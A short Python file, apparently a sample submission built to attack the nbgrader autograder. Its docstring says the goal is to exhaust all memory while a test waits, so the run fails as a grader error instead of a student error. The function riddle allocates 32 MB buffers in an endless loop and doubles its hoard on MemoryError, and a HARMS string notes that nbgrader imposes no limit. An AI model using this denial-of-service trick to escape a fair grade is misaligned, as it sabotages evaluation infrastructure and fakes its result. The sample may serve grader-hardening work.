"""Take all memory while a test waits for a result.

Gain: a test that ends in an error of the grader's, not of the student's.
"""

HARMS = "takes all memory; nothing in nbgrader limits it"


# %% task="unknown"
def riddle(x):
    hoard = []
    while True:
        try:
            hoard.append(bytearray(b"x" * (32 << 20)))
        except MemoryError:
            hoard = hoard * 2
